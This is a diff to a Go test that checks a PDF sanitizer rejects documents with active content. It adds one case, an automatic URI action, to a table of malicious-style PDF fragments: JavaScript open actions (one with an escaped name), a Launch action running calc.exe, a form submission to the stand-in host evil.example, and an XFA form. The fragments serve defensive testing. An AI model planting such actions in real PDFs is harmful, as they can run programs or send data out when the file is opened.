@@ -39,6 +39,7 @@ func TestAPDFThatDoesSomethingIsRejected(t *testing.T) {
 	for name, text := range map[string]string{
 		"script":                       "1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
 		"script with an escaped name":  "1 0 obj<</OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>>>endobj",
+		"link without a click":         "1 0 obj<</AA<</O<</S/URI/URI(https://example.com)>>>>>>endobj",
 		"program":                      "1 0 obj<</AA<</O<</S /Launch/F(calc.exe)>>>>>>endobj",
 		"form that sends":              "1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj",
 		"form of XML":                  "1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj",
